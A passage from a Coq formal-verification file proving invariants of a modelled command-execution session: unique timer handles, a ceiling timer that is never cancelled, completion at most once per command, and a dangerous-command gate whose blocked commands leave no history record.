  apply NoDup_rev. rewrite rev_app_distr. simpl. constructor; [|assumption].
  intros Hin. apply Hx. now apply in_rev.
Qed.

Lemma session_completeCommand (cid : nat) (w : World) :
  session (completeCommand cid w) = session w.
Proof.
  unfold completeCommand. destruct (nth_error (closures w) cid) as [c|]; [|reflexivity].
  destruct (commandCompleted c); [reflexivity|]. destruct (idleTimer c); reflexivity.
Qed.

Lemma session_fire (t : Timer) (w : World) : session (fire t w) = session w.
Proof.
  unfold fire, run_callback.
  destruct (callback t) as [cid|cid];
    (destruct (nth_error (closures (clearTimeout (timer_id t) w)) cid) as [c|];
     [|reflexivity];
     destruct (commandCompleted c); simpl; [reflexivity|];
     now rewrite session_completeCommand).
Qed.

Lemma session_outputHandler (cid : nat) (data : string) (w : World) :
  session (outputHandler cid data w) = session w.
Proof.
  destruct (nth_error (closures w) cid) as [c|] eqn:Hc.
  - now rewrite (outputHandler_eq _ _ _ Hc).
  - now rewrite (outputHandler_missing _ _ _ Hc).
Qed.

Lemma session_deliver (data : string) (l : list nat) (w : World) :
  session (fold_left (fun w' c => outputHandler c data w') l w) = session w.
Proof.
  revert w. induction l as [|lid l IH]; intros w; simpl; [reflexivity|].
  now rewrite IH, session_outputHandler.
Qed.

(* ------------------------------------------------------------------ *)
(** ** Timer handles

    [setTimeout] never hands out a handle twice, so [clearTimeout] on the
    handle kept in [idleTimer] can only remove an idle timer. *)

Lemma NoDup_map_filter {A B : Type} (f : A -> B) (g : A -> bool) (l : list A) :
  NoDup (map f l) -> NoDup (map f (filter g l)).
Proof.
  induction l as [|x l IH]; simpl; intros H; [constructor|].
  inversion H as [|y l' Hnin Hnd]; subst.
  destruct (g x); simpl; [|now apply IH].
  constructor; [|now apply IH].
  intros Hin. apply Hnin. apply in_map_iff in Hin. destruct Hin as (z & Hz & Hin).
  apply filter_In in Hin. apply in_map_iff. exists z. tauto.
Qed.

Lemma filter_all {A : Type} (l : list A) : filter (fun _ => true) l = l.
Proof. induction l as [|x l IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma same_handle (l : list Timer) (t t' : Timer) :
  NoDup (map timer_id l) -> In t l -> In t' l -> timer_id t = timer_id t' -> t = t'.
Proof.
  induction l as [|x l IH]; simpl; intros Hnd Ht Ht' Hid; [destruct Ht|].
  inversion Hnd as [|y l' Hnin Hnd']; subst.
  destruct Ht as [<-|Ht]; destruct Ht' as [<-|Ht']; auto.
  - exfalso. apply Hnin. rewrite Hid. now apply in_map.
  - exfalso. apply Hnin. rewrite <- Hid. now apply in_map.
Qed.

Lemma nth_error_update_nth_inv {A : Type} (f : A -> A) (l : list A) (i j : nat)
  (y : A) :
  nth_error (update_nth i f l) j = Some y ->
  exists x, nth_error l j = Some x /\ (y = x \/ (j = i /\ y = f x)).
Proof.
  intros H. destruct (Nat.eq_dec i j) as [->|Hne].
  - destruct (nth_error l j) as [x|] eqn:Hx.
    + rewrite (@nth_error_update_nth_eq A f l j x Hx) in H. inversion H.
      exists x. split; auto.
    + exfalso. apply nth_error_None in Hx.
      assert (Hn : nth_error (update_nth j f l) j = None)
        by (apply nth_error_None; rewrite length_update_nth; exact Hx).
      congruence.
  - rewrite nth_error_update_nth_neq in H by exact Hne. exists y. auto.
Qed.

Lemma handles_new_world (L : CommandPatternLoader) : handles_ok (new_world L).
Proof.
  split; [|split]; simpl.
  - intros t [].
  - constructor.
  - intros [|cid] c id H; discriminate.
Qed.

(** Timers are removed and closures keep their [idleTimer]. *)
Lemma handles_shrink (w w' : World) (g : Timer -> bool) :
  handles_ok w ->
  timers w' = filter g (timers w) ->
  next_timer w' = next_timer w ->
  (forall cid c', nth_error (closures w') cid = Some c' ->
     exists c, nth_error (closures w) cid = Some c /\ idleTimer c = idleTimer c') ->
  handles_ok w'.
Proof.
  intros (H1 & H2 & H3) Ht Hn Hc. unfold handles_ok. rewrite Ht, Hn.
  split; [|split].
  - intros t Hin. apply filter_In in Hin. apply H1. tauto.
  - now apply NoDup_map_filter.
  - intros cid c' id Hc' Hid. destruct (Hc cid c' Hc') as (c & Hcc & Hsame).
    rewrite <- Hsame in Hid. destruct (H3 cid c id Hcc Hid) as [Hlt Hk].
    split; [exact Hlt|]. intros t Hin. apply filter_In in Hin. apply Hk. tauto.
Qed.

Lemma handles_clearTimeout (id : nat) (w : World) :
  handles_ok w -> handles_ok (clearTimeout id w).
Proof.
  intros Hw.
  apply (@handles_shrink w (clearTimeout id w)
           (fun t => negb (Nat.eqb (timer_id t) id)) Hw); try reflexivity.
  intros cid c' Hc'. exists c'. split; [exact Hc' | reflexivity].
Qed.

Lemma handles_completeCommand (cid : nat) (w : World) :
  handles_ok w -> handles_ok (completeCommand cid w).
Proof.
  intros Hw. destruct (nth_error (closures w) cid) as [c|] eqn:Hc;
    [|unfold completeCommand; now rewrite Hc].
  destruct (commandCompleted c) eqn:Hf;
    [now rewrite (completeCommand_completed _ _ Hc Hf)|].
  rewrite (completeCommand_fresh _ _ Hc Hf).
  apply (@handles_shrink w _
           (fun t => match idleTimer c with
                     | Some id => negb (Nat.eqb (timer_id t) id)
                     | None => true
                     end) Hw); cbn [timers next_timer closures].
  - destruct (idleTimer c); [reflexivity | now rewrite filter_all].
  - reflexivity.
  - intros cid' c' Hc'. apply nth_error_update_nth_inv in Hc'.
    destruct Hc' as (x & Hx & [->|[_ ->]]); exists x; split; auto.
Qed.

Lemma handles_fire (t : Timer) (w : World) :
  handles_ok w -> handles_ok (fire t w).
Proof.
  intros Hw. pose proof (handles_clearTimeout (timer_id t) Hw) as Hc.
  unfold fire, run_callback.
  destruct (callback t) as [cid|cid];
    (destruct (nth_error (closures (clearTimeout (timer_id t) w)) cid) as [c|];
     [|assumption];
     destruct (commandCompleted c); simpl;
     [assumption | now apply handles_completeCommand]).
Qed.

Lemma handles_outputHandler (cid : nat) (data : string) (w : World) :
  handles_ok w -> handles_ok (outputHandler cid data w).
Proof.
  intros Hw. destruct (nth_error (closures w) cid) as [c|] eqn:Hc;
    [|now rewrite (outputHandler_missing _ _ _ Hc)].
  rewrite (outputHandler_eq _ _ _ Hc). destruct Hw as (H1 & H2 & H3).
  assert (Hold : forall t,
             In t (match idleTimer c with
                   | Some id => filter (fun t => negb (Nat.eqb (timer_id t) id))
                                       (timers w)
                   | None => timers w
                   end) -> In t (timers w))
    by (intros t Ht; apply pending_filtered in Ht; tauto).
  split; [|split]; cbn [timers next_timer closures].
  - intros t Ht. in_snoc Ht; [specialize (H1 t (Hold t Ht)); lia | simpl; lia].
  - rewrite map_app. cbn [map timer_id]. apply NoDup_snoc.
    + destruct (idleTimer c); [now apply NoDup_map_filter | exact H2].
    + intros Hin. apply in_map_iff in Hin. destruct Hin as (t & Hid & Ht).
      specialize (H1 t (Hold t Ht)). lia.
  - intros cid' c' id Hc' Hid.
    apply nth_error_update_nth_inv in Hc'. destruct Hc' as (x & Hx & Hc').
    apply nth_error_update_nth_inv in Hx. destruct Hx as (x0 & Hx0 & Hx).
    assert (Hcases : id = next_timer w \/ idleTimer x0 = Some id).
    { destruct Hc' as [->|[_ ->]]; [|left; simpl in Hid; congruence].
      right. destruct Hx as [->|[_ ->]]; [exact Hid | exact Hid]. }
    destruct Hcases as [->|Hx0id].
    + split; [lia|]. intros t Ht Htid. in_snoc Ht; [|reflexivity].
      specialize (H1 t (Hold t Ht)). lia.
    + destruct (H3 cid' x0 id Hx0 Hx0id) as [Hlt Hk].
      split; [lia|]. intros t Ht Htid. in_snoc Ht; [|reflexivity].
      now apply Hk; [apply Hold|].
Qed.

Lemma handles_deliver (data : string) (l : list nat) (w : World) :
  handles_ok w ->
  handles_ok (fold_left (fun w' cid => outputHandler cid data w') l w).
Proof.
  revert w. induction l as [|lid l IH]; intros w Hw; simpl; [assumption|].
  apply IH. now apply handles_outputHandler.
Qed.

(** A pending ceiling timer is removed neither by a chunk of output nor by
    the completion of a command. *)
Lemma ceiling_kept_filtered (w : World) (cid : nat) (c : Closure) (t : Timer) :
  handles_ok w -> nth_error (closures w) cid = Some c ->
  In t (timers w) -> is_ceiling t = true ->
  In t (match idleTimer c with
        | Some id => filter (fun t' => negb (Nat.eqb (timer_id t') id)) (timers w)
        | None => timers w
        end).
Proof.
  intros (_ & _ & H3) Hc Ht Hm. destruct (idleTimer c) as [id|] eqn:Hid; [|exact Ht].
  apply filter_In. split; [exact Ht|].
  destruct (Nat.eqb (timer_id t) id) eqn:He; [|reflexivity].
  apply Nat.eqb_eq in He. destruct (H3 cid c id Hc Hid) as [_ Hk].
  rewrite (Hk t Ht He) in Hm. discriminate.
Qed.

Lemma ceiling_kept_outputHandler (cid : nat) (data : string) (w : World) (t : Timer) :
  handles_ok w -> In t (timers w) -> is_ceiling t = true ->
  In t (timers (outputHandler cid data w)).
Proof.
  intros Hw Ht Hm. destruct (nth_error (closures w) cid) as [c|] eqn:Hc;
    [|now rewrite (outputHandler_missing _ _ _ Hc)].
  rewrite (outputHandler_eq _ _ _ Hc). cbn [timers]. apply in_or_app. left.
  now apply (@ceiling_kept_filtered w cid).
Qed.

Lemma ceiling_kept_deliver (data : string) (l : list nat) (w : World) (t : Timer) :
  handles_ok w -> In t (timers w) -> is_ceiling t = true ->
  In t (timers (fold_left (fun w' cid => outputHandler cid data w') l w)).
Proof.
  revert w. induction l as [|lid l IH]; intros w Hw Ht Hm; simpl; [assumption|].
  apply IH; [now apply handles_outputHandler | | exact Hm].
  now apply ceiling_kept_outputHandler.
Qed.

Lemma ceiling_kept_completeCommand (cid : nat) (w : World) (t : Timer) :
  handles_ok w -> In t (timers w) -> is_ceiling t = true ->
  In t (timers (completeCommand cid w)).
Proof.
  intros Hw Ht Hm. destruct (nth_error (closures w) cid) as [c|] eqn:Hc;
    [|unfold completeCommand; now rewrite Hc].
  destruct (commandCompleted c) eqn:Hf;
    [now rewrite (completeCommand_completed _ _ Hc Hf)|].
  rewrite (completeCommand_fresh _ _ Hc Hf). cbn [timers].
  now apply (@ceiling_kept_filtered w cid).
Qed.

(** Running a timer other than [t] leaves the ceiling timer [t] pending. *)
Lemma ceiling_kept_fire (t' t : Timer) (w : World) :
  handles_ok w -> In t (timers w) -> is_ceiling t = true ->
  timer_id t <> timer_id t' ->
  In t (timers (fire t' w)).
Proof.
  intros Hw Ht Hm Hne.
  pose proof (handles_clearTimeout (timer_id t') Hw) as Hc.
  assert (Ht' : In t (timers (clearTimeout (timer_id t') w))).
  { cbn [clearTimeout set_timers timers]. apply filter_In. split; [exact Ht|].
    apply negb_true_iff. now apply Nat.eqb_neq. }
  unfold fire, run_callback.
  destruct (callback t') as [cid|cid];
    (destruct (nth_error (closures (clearTimeout (timer_id t') w)) cid) as [c|];
     [|assumption];
     destruct (commandCompleted c); simpl;
     [assumption | now apply ceiling_kept_completeCommand]).
Qed.

Section CompletionFacts.
Context {engine : RegExpEngine}.

Lemma consistent_executeCommand (command : string) (options : Options) (w : World) :
  consistent w -> consistent (fst (executeCommand command options w)).
Proof.
  intros Hw.
  destruct (connected (session w)) eqn:Hc;
    [|now rewrite (executeCommand_disconnected _ _ _ Hc)].
  destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
    [|unfold executeCommand; now rewrite Hc, Ha].
  destruct (dangerous a && blockDangerousCommands (session w)
            && negb (truthy (bypassSafety options))) eqn:Hgate.
  - unfold executeCommand. rewrite Hc, Ha, Hgate. simpl.
    now apply consistent_emit_other.
  - rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst].
    destruct Hw as (H1 & H2 & H3 & H4).
    set (cid0 := length (closures w)).
    set (new := mkClosure command options a "" (now w) false None).
    set (newT := mkTimer (next_timer w) (now w + timer_delay (ceiling options))
                         (MaxCb cid0)).
    assert (Hmax : forall cid, is_idle_of cid newT = false) by reflexivity.
    destruct (H2 cid0 (le_n _)) as (Hz & Hnl & Hnt).
    split; [|split; [|split]]; unfold closure_ok, completions;
      cbn [closures timers output_listeners resolved emitted].
    + intros cid c Hcl.
      assert (Hlt : cid < length (closures w ++ [new]))
        by (apply nth_error_Some; congruence).
      rewrite length_app in Hlt. simpl in Hlt.
      destruct (Nat.eq_dec cid cid0) as [->|Hne].
      * unfold cid0 in Hcl. rewrite nth_error_snoc in Hcl. inversion Hcl; subst c.
        cbn [commandCompleted idleTimer]. split; [exact Hz|].
        split; [discriminate|].
        intros t Ht Hidle. in_snoc Ht.
        -- rewrite (Hnt t Ht) in Hidle. discriminate.
        -- rewrite Hmax in Hidle. discriminate.
      * rewrite nth_error_app1 in Hcl by (fold cid0; lia).
        destruct (H1 cid c Hcl) as (Ha' & Hb & Hd).
        split; [exact Ha'|]. split.
        -- intros Hf. destruct (Hb Hf) as [Hb1 Hb2]. split.
           ++ intros Hin. apply in_app_or in Hin. destruct Hin as [Hin|[Heq|[]]];
                [contradiction | congruence].
           ++ intros t Ht. in_snoc Ht;
                [now apply Hb2 | apply Hmax].
        -- intros t Ht Hidle. in_snoc Ht.
           ++ now apply Hd.
           ++ rewrite Hmax in Hidle. discriminate.
    + intros cid Hlen. rewrite length_app in Hlen. simpl in Hlen.
      destruct (H2 cid) as (Ha' & Hb & Hd); [lia|].
      split; [exact Ha'|]. split.
      * intros Hin. apply in_app_or in Hin. destruct Hin as [Hin|[Heq|[]]];
          [contradiction | fold cid0 in Hlen; lia].
      * intros t Ht. in_snoc Ht;
          [now apply Hd | apply Hmax].
    + now apply NoDup_snoc.
    + destruct (suspicious a); [|exact H4].
      cbn [emit set_emitted emitted]. rewrite filter_snoc_length. simpl. lia.
Qed.

Lemma consistent_step (w : World) (a : Action) :
  consistent w -> consistent (step w a).
Proof.
  intros Hw. destruct a as [|command options|data|data|code|ms|id]; simpl.
  - apply consistent_emit_other; [reflexivity | exact Hw].
  - now apply consistent_executeCommand.
  - now apply consistent_on_stdout.
  - exact Hw.
  - apply consistent_emit_other; [reflexivity | exact Hw].
  - destruct (0 <=? ms)%Z; exact Hw.
  - destruct (find_timer id w) as [t|]; [|exact Hw].
    destruct (due t <=? now w)%Z; [|exact Hw].
    unfold fire. apply consistent_run_callback. now apply consistent_clearTimeout.
Qed.

Lemma consistent_run (trace : list Action) (w : World) :
  consistent w -> consistent (run trace w).
Proof.
  revert w. induction trace as [|a trace IH]; intros w Hw; simpl; [assumption|].
  apply IH. now apply consistent_step.
Qed.

Lemma handles_step (w : World) (a : Action) :
  handles_ok w -> handles_ok (step w a).
Proof.
  intros Hw. destruct a as [|command options|data|data|code|ms|id]; simpl;
    try exact Hw.
  - destruct (connected (session w)) eqn:Hc;
      [|now rewrite (executeCommand_disconnected _ _ _ Hc)].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|unfold executeCommand; now rewrite Hc, Ha].
    destruct (dangerous a && blockDangerousCommands (session w)
              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + unfold executeCommand. rewrite Hc, Ha, Hgate. exact Hw.
    + rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst].
      destruct Hw as (H1 & H2 & H3).
      split; [|split]; cbn [timers next_timer closures].
      * intros t Ht. in_snoc Ht; [specialize (H1 t Ht); lia | simpl; lia].
      * rewrite map_app. cbn [map timer_id]. apply NoDup_snoc; [exact H2|].
        intros Hin. apply in_map_iff in Hin. destruct Hin as (t & Hid & Ht).
        specialize (H1 t Ht). lia.
      * intros cid c id Hcl Hid.
        assert (Hold : nth_error (closures w) cid = Some c).
        { destruct (Nat.lt_ge_cases cid (length (closures w))) as [Hlt|Hge].
          - now rewrite nth_error_app1 in Hcl.
          - rewrite nth_error_app2 in Hcl by exact Hge.
            destruct (cid - length (closures w)) as [|k]; simpl in Hcl.
            + injection Hcl as <-. discriminate.
            + destruct k; discriminate. }
        destruct (H3 cid c id Hold Hid) as [Hlt Hk].
        split; [lia|]. intros t Ht Htid. in_snoc Ht; [now apply Hk|].
        simpl in Htid. lia.
  - unfold on_stdout. apply handles_deliver. exact Hw.
  - destruct (0 <=? ms)%Z; exact Hw.
  - destruct (find_timer id w) as [t|]; [|exact Hw].
    destruct (due t <=? now w)%Z; [|exact Hw]. now apply handles_fire.
Qed.

Lemma handles_run (trace : list Action) (w : World) :
  handles_ok w -> handles_ok (run trace w).
Proof.
  revert w. induction trace as [|a trace IH]; intros w Hw; simpl; [assumption|].
  apply IH. now apply handles_step.
Qed.

(** A pending ceiling timer stays pending through every event but its own
    running, which takes place only when it is due. *)
Lemma ceiling_kept_step (w : World) (a : Action) (t : Timer) :
  handles_ok w -> In t (timers w) -> is_ceiling t = true ->
  In t (timers (step w a))
  \/ (a = TimerFires (timer_id t) /\ (due t <= now w)%Z).
Proof.
  intros Hw Ht Hm. destruct a as [|command options|data|data|code|ms|id]; simpl;
    try (left; exact Ht).
  - left. destruct (connected (session w)) eqn:Hc;
      [|now rewrite (executeCommand_disconnected _ _ _ Hc)].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|unfold executeCommand; now rewrite Hc, Ha].
    destruct (dangerous a && blockDangerousCommands (session w)
              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + unfold executeCommand. rewrite Hc, Ha, Hgate. exact Ht.
    + rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst timers].
      apply in_or_app. now left.
  - left. unfold on_stdout. apply ceiling_kept_deliver; assumption.
  - left. destruct (0 <=? ms)%Z; exact Ht.
  - destruct (find_timer id w) as [t'|] eqn:Hfind; [|left; exact Ht].
    destruct (due t' <=? now w)%Z eqn:Hdue; [|left; exact Ht].
    unfold find_timer in Hfind. apply find_some in Hfind.
    destruct Hfind as [Ht' Hid]. apply Nat.eqb_eq in Hid.
    destruct (Nat.eq_dec (timer_id t) (timer_id t')) as [Heq|Hne].
    + right. destruct Hw as (_ & H2 & _).
      assert (t = t') by (now apply (@same_handle (timers w))). subst t'.
      split; [now rewrite Hid | now apply Z.leb_le].
    + left. now apply ceiling_kept_fire.
Qed.

(** C9, amended.  In every state a session can reach, whatever the order
    in which chunks arrive and due timers run: each command's promise has
    been resolved at most once, and there are as many ['executed'] events
    as resolved promises; for a completed command the promise has been
    resolved exactly once, its chunk listener is detached, none of its idle
    timers is pending, and a further chunk changes neither its accumulated
    output nor its completion.  The ceiling timer is not cancelled: it is
    pending once the command has been submitted, it stays pending through
    every event, the completion of its command included, until it runs
    itself, which takes place only when it is due; and a timer callback of
    a completed command, idle or ceiling, finds the flag set and leaves the
    state as it is. *)
Theorem completion_happens_once (L : CommandPatternLoader) (trace : list Action) :
  let w := run trace (new_world L) in
  (forall cid, completions cid w <= 1)
  /\ length (filter is_executed (emitted w)) = length (resolved w)
  /\ (forall cid c,
       nth_error (closures w) cid = Some c ->
       commandCompleted c = true ->
       completions cid w = 1
       /\ attached cid w = false
       /\ pending_idle cid w = false
       /\ (forall data,
            nth_error (closures (on_stdout data w)) cid = Some c
            /\ completions cid (on_stdout data w) = 1)
       /\ run_callback (IdleCb cid) w = w
       /\ run_callback (MaxCb cid) w = w)
  /\ (forall command options cid,
       snd (executeCommand command options w) = Pending cid ->
       pending_max cid (fst (executeCommand command options w)) = true)
  /\ (forall cid t a,
       In t (timers w) -> is_max_of cid t = true ->
       In t (timers (step w a))
       \/ (a = TimerFires (timer_id t) /\ (due t <= now w)%Z)).
Proof.
  intros w.
  assert (Hw : consistent w) by (apply consistent_run, consistent_new_world).
  assert (Hh : handles_ok w) by (apply handles_run, handles_new_world).
  destruct Hw as (H1 & H2 & H3 & H4).
  split; [|split; [exact H4|split; [|split]]].
  - intros cid. destruct (nth_error (closures w) cid) as [c|] eqn:Hc.
    + destruct (H1 cid c Hc) as (Ha & _). rewrite Ha.
      destruct (commandCompleted c); lia.
    + apply nth_error_None in Hc. destruct (H2 cid Hc) as (Ha & _). lia.
  - intros cid c Hc Hf. destruct (H1 cid c Hc) as (Ha & Hb & _).
    rewrite Hf in Ha. destruct (Hb Hf) as [Hnin Hnt].
    split; [exact Ha|]. split; [now apply attached_false|].
    split; [now apply pending_idle_false|].
    split; [|split; simpl; now rewrite Hc, Hf].
    intros data. unfold on_stdout.
    match goal with
    | |- context [fold_left ?f ?l ?w0] =>
        destruct (@deliver_frame data cid l w0) as [Hcl Hres]
    end; [exact Hnin|].
    unfold completions. rewrite Hcl, Hres. split; assumption.
  - intros command options cid.
    destruct (connected (session w)) eqn:Hc;
      [|unfold executeCommand; rewrite Hc; cbn [negb snd]; intros Hp; discriminate Hp].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|unfold executeCommand; rewrite Hc, Ha; cbn [negb snd]; intros Hp;
        discriminate Hp].
    destruct (dangerous a && blockDangerousCommands (session w)
              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + unfold executeCommand. rewrite Hc, Ha, Hgate. cbn [negb snd].
      intros Hp. discriminate Hp.
    + rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst snd].
      intros Hp. injection Hp as <-.
      unfold pending_max. cbn [timers]. rewrite existsb_app. simpl.
      unfold is_max_of. simpl. rewrite Nat.eqb_refl. apply orb_true_r.
  - intros cid t a Ht Hm. apply ceiling_kept_step; [exact Hh | exact Ht|].
    unfold is_max_of in Hm. unfold is_ceiling.
    destruct (callback t); [discriminate | reflexivity].
Qed.

(** Every record that [executeCommand] appends to the history has
    [executed = true]: a blocked command leaves no record, so the count of
    blocked commands reported by [getStatus] is 0 in every reachable state. *)
Lemma history_step (w : World) (a : Action) :
  commandHistory (session (step w a)) = commandHistory (session w)
  \/ exists r, executed r = true
               /\ commandHistory (session (step w a))
                  = commandHistory (session w) ++ [r].
Proof.
  destruct a as [|command options|data|data|code|ms|id]; simpl; try (now left).
  - destruct (connected (session w)) eqn:Hc;
      [|left; now rewrite (executeCommand_disconnected _ _ _ Hc)].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|left; unfold executeCommand; now rewrite Hc, Ha].
    destruct (dangerous a && blockDangerousCommands (session w)
              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + left. unfold executeCommand. now rewrite Hc, Ha, Hgate.
    + right. rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). simpl.
      eexists. split; [|reflexivity]. reflexivity.
  - left. unfold on_stdout. now rewrite session_deliver.
  - left. destruct (0 <=? ms)%Z; reflexivity.
  - left. destruct (find_timer id w) as [t|]; [|reflexivity].
    destruct (due t <=? now w)%Z; [|reflexivity]. now rewrite session_fire.
Qed.

Lemma blockedCommands_zero (L : CommandPatternLoader) (trace : list Action) :
  blockedCommands (session (run trace (new_world L))) = 0.
Proof.
  assert (H : forall tr w,
             Forall (fun r => executed r = true) (commandHistory (session w)) ->
             Forall (fun r => executed r = true)
                    (commandHistory (session (run tr w)))).
  { induction tr as [|a tr IH]; intros w Hw; simpl; [assumption|].
    apply IH. destruct (history_step w a) as [->|(r & Hr & ->)]; [assumption|].
    apply Forall_app. split; [assumption|]. now constructor. }
  specialize (H trace (new_world L) (Forall_nil _)).
  unfold blockedCommands.
  induction (commandHistory (session (run trace (new_world L)))) as [|r l IH];
    [reflexivity|].
  inversion H; subst. simpl. rewrite H2, andb_false_r. now apply IH.
Qed.

End CompletionFacts.

(* ------------------------------------------------------------------ *)
(** ** A command without output, in any reachable state *)

Lemma callback_of_closure (cid : nat) (t : Timer) :
  callback_closure (callback t) = cid <->
  is_idle_of cid t = true \/ is_max_of cid t = true.
Proof.
  unfold is_idle_of, is_max_of, callback_closure.
  destruct (callback t) as [c|c]; simpl; rewrite Nat.eqb_eq; intuition congruence.
Qed.

Lemma allocated_completeCommand (cid : nat) (w : World) :
  timers_allocated w -> timers_allocated (completeCommand cid w).
Proof.
  intros Hw. destruct (nth_error (closures w) cid) as [c|] eqn:Hc;
    [|unfold completeCommand; now rewrite Hc].
  destruct (commandCompleted c) eqn:Hf;
    [now rewrite (completeCommand_completed _ _ Hc Hf)|].
  rewrite (completeCommand_fresh _ _ Hc Hf).
  intros t Ht. cbn [timers closures] in *. rewrite length_update_nth.
  apply pending_filtered in Ht. apply Hw. tauto.
Qed.

Lemma allocated_fire (t : Timer) (w : World) :
  timers_allocated w -> timers_allocated (fire t w).
Proof.
  intros Hw.
  assert (Hc : timers_allocated (clearTimeout (timer_id t) w)).
  { intros t' Ht'. simpl in *. apply filter_In in Ht'. apply Hw. tauto. }
  unfold fire, run_callback.
  destruct (callback t) as [cid|cid];
    (destruct (nth_error (closures (clearTimeout (timer_id t) w)) cid) as [c|];
     [|assumption];
     destruct (commandCompleted c); simpl;
     [assumption | now apply allocated_completeCommand]).
Qed.

Lemma allocated_outputHandler (cid : nat) (data : string) (w : World) :
  timers_allocated w -> timers_allocated (outputHandler cid data w).
Proof.
  intros Hw. destruct (nth_error (closures w) cid) as [c|] eqn:Hc;
    [|now rewrite (outputHandler_missing _ _ _ Hc)].
  rewrite (outputHandler_eq _ _ _ Hc).
  intros t Ht. cbn [timers closures] in *. rewrite !length_update_nth.
  in_snoc Ht.
  - apply pending_filtered in Ht. apply Hw. tauto.
  - simpl. apply nth_error_Some. congruence.
Qed.

Lemma allocated_deliver (data : string) (l : list nat) (w : World) :
  timers_allocated w ->
  timers_allocated (fold_left (fun w' cid => outputHandler cid data w') l w).
Proof.
  revert w. induction l as [|lid l IH]; intros w Hw; simpl; [assumption|].
  apply IH. now apply allocated_outputHandler.
Qed.

Section QuietFacts.
Context {engine : RegExpEngine}.

Lemma allocated_step (w : World) (a : Action) :
  timers_allocated w -> timers_allocated (step w a).
Proof.
  intros Hw. destruct a as [|command options|data|data|code|ms|id]; simpl;
    try exact Hw.
  - destruct (connected (session w)) eqn:Hc;
      [|now rewrite (executeCommand_disconnected _ _ _ Hc)].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|unfold executeCommand; now rewrite Hc, Ha].
    destruct (dangerous a && blockDangerousCommands (session w)
              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + unfold executeCommand. rewrite Hc, Ha, Hgate. exact Hw.
    + rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). cbn [fst].
      intros t Ht. cbn [timers closures] in *. rewrite length_app. simpl.
      in_snoc Ht.
      * specialize (Hw t Ht). lia.
      * simpl. lia.
  - unfold on_stdout. apply allocated_deliver. exact Hw.
  - destruct (0 <=? ms)%Z; exact Hw.
  - destruct (find_timer id w) as [t|]; [|exact Hw].
    destruct (due t <=? now w)%Z; [|exact Hw]. now apply allocated_fire.
Qed.

Lemma allocated_run (trace : list Action) (w : World) :
  timers_allocated w -> timers_allocated (run trace w).
Proof.
  revert w. induction trace as [|a trace IH]; intros w Hw; simpl; [assumption|].
  apply IH. now apply allocated_step.
Qed.

(** Running the callback of a due timer keeps a silent command waiting for
    its ceiling: only its own ceiling timer can complete it, and that timer
    is not due before the deadline. *)
Lemma awaiting_fire (cid : nat) (t0 deadline : Z) (t : Timer) (w : World) :
  awaiting_ceiling cid t0 deadline w ->
  In t (timers w) -> (due t <= now w)%Z ->
  awaiting_ceiling cid t0 deadline (fire t w).
Proof.
  intros (H1 & H2 & H3 & H4) Hin Hdue.
  assert (Hclear : awaiting_ceiling cid t0 deadline (clearTimeout (timer_id t) w)).
  { split; [exact H1|]. cbn [clearTimeout set_timers timers resolved].
    split; [|split; [|exact H4]].
    - intros t' Ht'. apply filter_In in Ht'. apply H2. tauto.
    - intros t' Ht'. apply filter_In in Ht'. apply H3. tauto. }
  unfold fire.
  set (w' := clearTimeout (timer_id t) w) in *.
  assert (Hnow : now w' = now w) by reflexivity.
  assert (Hkeep : forall c', nth_error (closures w') (callback_closure (callback t)) = Some c' ->
                             commandCompleted c' = false ->
                             awaiting_ceiling cid t0 deadline
                               (completeCommand (callback_closure (callback t)) w')).
  { intros c' Hc' Hf'. rewrite (completeCommand_fresh _ _ Hc' Hf').
    destruct Hclear as ((c & Hc & Hstart) & J2 & J3 & J4).
    split; [|split; [|split]]; cbn [closures timers resolved].
    - destruct (Nat.eq_dec (callback_closure (callback t)) cid) as [Heq|Hne].
      + rewrite Heq in *. rewrite Hc in Hc'. inversion Hc'; subst c'.
        exists (set_commandCompleted true c). split; [|exact Hstart].
        now apply nth_error_update_nth_eq.
      + exists c. split; [|exact Hstart].
        now rewrite nth_error_update_nth_neq.
    - intros t' Ht'. apply pending_filtered in Ht'. apply J2. tauto.
    - intros t' Ht'. apply pending_filtered in Ht'. apply J3. tauto.
    - intros r Hr. apply in_app_or in Hr. destruct Hr as [Hr|[Hr|[]]];
        [now apply J4|].
      injection Hr as Hcid Hres. subst r. cbn [duration].
      assert (Hcb : is_max_of cid t = true).
      { destruct (proj1 (callback_of_closure cid t) Hcid) as [Hi|Hm]; [|exact Hm].
        rewrite (H2 t Hin) in Hi. discriminate. }
      rewrite Hcid, Hc in Hc'. injection Hc' as <-.
      rewrite (H3 t Hin Hcb) in Hdue. rewrite Hstart. lia. }
  unfold run_callback.
  destruct (callback t) as [c0|c0]; cbn [callback_closure] in Hkeep;
    (destruct (nth_error (closures w') c0) as [c'|] eqn:Hc'; [|exact Hclear];
     destruct (commandCompleted c') eqn:Hf'; simpl; [exact Hclear|];
     now apply (Hkeep c')).
Qed.

Lemma awaiting_step (cid : nat) (t0 deadline : Z) (w : World) (a : Action) :
  quiet a = true ->
  awaiting_ceiling cid t0 deadline w ->
  awaiting_ceiling cid t0 deadline (step w a).
Proof.
  intros Hq Hw. destruct a as [|command options|data|data|code|ms|id];
    simpl in *; try exact Hw; try discriminate.
  - destruct (connected (session w)) eqn:Hc;
      [|now rewrite (executeCommand_disconnected _ _ _ Hc)].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|unfold executeCommand; now rewrite Hc, Ha].
    destruct (dangerous a && blockDangerousCommands (session w)
